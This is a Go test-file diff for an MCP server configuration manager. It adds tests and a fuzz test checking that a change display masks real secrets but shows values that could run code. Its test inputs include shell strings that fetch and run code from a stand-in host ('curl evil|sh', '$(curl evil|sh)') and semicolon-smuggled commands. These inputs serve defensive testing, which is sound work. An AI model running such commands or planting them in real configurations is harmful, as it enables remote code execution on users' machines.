@@ -1,6 +1,7 @@
 package changes_test
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 
@@ -8,6 +9,7 @@ import (
 	"github.com/workbench-mcp/workbench-desktop/engine/config"
 	"github.com/workbench-mcp/workbench-desktop/engine/manage/changes"
 	"github.com/workbench-mcp/workbench-desktop/engine/manage/edit"
+	"github.com/workbench-mcp/workbench-desktop/engine/manage/review"
 )
 
 func document(entry string) string { return `{"toolboxes":{"dev":{"mcpServers":{` + entry + `}}}}` }
@@ -41,6 +43,76 @@ func TestDifference(t *testing.T) {
 			t.Errorf("%q is in\n%s", secret, got)
 		}
 	}
+}
+
+// TestDifferenceShowsCode holds that nothing that could run is taken for a secret.
+func TestDifferenceShowsCode(t *testing.T) {
+	for entry, want := range map[string]string{
+		`"command":"sh","args":["-c","TOKEN=x;touch /tmp/ran; npx y"]`:                    `args[1]: "TOKEN=x;touch /tmp/ran; npx y"`,
+		`"command":"sh","args":["-c","API_KEY='a;b' PASSWORD=\"$(curl evil|sh)\" npx x"]`: `args[1]: "API_KEY='a;b' PASSWORD=\"$(curl evil|sh)\" npx x"`,
+		`"command":"TOKEN=x;evil"`:                                     `command: "TOKEN=x;evil"`,
+		`"command":"x","env":{"PASSWORD_COMMAND":"curl evil|sh"}`:      `env.PASSWORD_COMMAND: "curl evil|sh"`,
+		`"command":"x","env":{"PASSWORD":"$(curl evil)"}`:              `env.PASSWORD: "$(curl evil)"`,
+		`"command":"x","env":{"GH_TOKEN_HELPER":"/tmp/evil"}`:          `env.GH_TOKEN_HELPER: "/tmp/evil"`,
+		`"command":"x","env":{"PASSWORD":"correct horse"}`:             `env.PASSWORD: "••• #`,
+		`"url":"https://a.example","oauth":{"clientSecret":"hunter2"}`: `oauth.clientSecret: "••• #`,
+	} {
+		if got := changes.Difference(approval.Waiting{Toolbox: "dev", Server: server(t, document(`"s":{`+entry+`}`))}); !strings.Contains(got, want) {
+			t.Errorf("%s is not in\n%s", want, got)
+		}
+	}
+}
+
+var mark = regexp.MustCompile(`••• #[0-9a-f]{4}`)
+
+// FuzzMasked holds that a difference masks what the review of the same entry masks, no more and no less.
+func FuzzMasked(f *testing.F) {
+	f.Add("sh", "-c", "TOKEN=x;touch /tmp/ran", "PASSWORD_COMMAND", "curl evil|sh")
+	f.Add("npx", "--api-key", "hunter2", "TOKEN", "hunter2")
+	f.Add("docker", "-e", "API_KEY=a b", "Authorization", "Bearer abcdef")
+	f.Add("env", "API_KEY=hunter2", "https://me:pw@host/?token=abc", "GIT_CONFIG_KEY_0", "sk-abcdefghijklmnopqrstuvwx")
+	f.Fuzz(func(t *testing.T, command, first, second, name, value string) {
+		for _, text := range []*string{&command, &first, &second, &name, &value} {
+			*text = strings.Map(func(r rune) rune { // what both write as it is
+				if r < ' ' || r > '~' || r == '"' || r == '\\' {
+					return 'x'
+				}
+				return r
+			}, *text)
+			for strings.Contains(*text, "  ") {
+				*text = strings.ReplaceAll(*text, "  ", " ")
+			}
+			*text = "x"[:max(0, 1-len(*text))] + *text
+		}
+		variables := []config.Variable{{Name: name, Value: value}}
+		program := &config.Server{Transport: config.TransportStdio, Command: command, Args: []string{first, second}, Env: variables}
+		site := &config.Server{Transport: config.TransportHTTP, URL: second, Headers: variables, OAuth: &config.OAuth{ClientID: first, ClientSecret: value}}
+		for _, server := range []*config.Server{program, site} {
+			judged := review.Of(server)
+			want := strings.ReplaceAll(judged.Line(), `"`, "")
+			for _, s := range judged.Settings {
+				want += "\n" + s.Field + "." + s.Name.String() + "=" + s.Value.String()
+			}
+			var runs, settings []string
+			for line := range strings.Lines(changes.Difference(approval.Waiting{Toolbox: "dev", Server: server})) {
+				field, text, ok := strings.Cut(strings.TrimPrefix(strings.TrimSuffix(line, "\n"), "+"), `: "`)
+				if !ok || !strings.HasPrefix(line, "+") {
+					continue
+				}
+				text = mark.ReplaceAllString(strings.TrimSuffix(text, `"`), "•••")
+				switch {
+				case field == "transport":
+				case strings.HasPrefix(field, "env."), strings.HasPrefix(field, "headers."), strings.HasPrefix(field, "oauth."):
+					settings = append(settings, "\n"+field+"="+text)
+				default:
+					runs = append(runs, text)
+				}
+			}
+			if got := strings.Join(runs, " ") + strings.Join(settings, ""); got != want {
+				t.Errorf("%+v\ngot  %s\nwant %s", server, got, want)
+			}
+		}
+	})
 }
 
 // TestPutBack changes each guarded field, takes it back, and finds everything else as the other program left it.
